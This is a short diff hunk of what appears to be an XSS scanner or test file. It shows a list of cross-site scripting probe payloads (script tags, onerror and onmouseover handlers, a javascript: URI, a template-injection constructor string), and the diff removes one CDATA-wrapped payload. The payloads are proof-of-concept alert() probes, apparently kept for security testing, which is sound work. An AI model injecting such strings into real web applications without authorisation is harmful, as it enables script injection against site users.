@@ -36,7 +36,6 @@ PAYLOADS = (
     "' onmouseover=alert(7331) x='",
     "\"><script>alert(7331)</script>",
     "'><img src=x onerror=alert(7331)>",
-    "<![CDATA[<script>alert(7331)</script>]]>",
     "&lt;script&gt;alert(7331)&lt;/script&gt;",
     "javascript:alert(7331)",
     "{{constructor.constructor('alert(7331)')()}}",
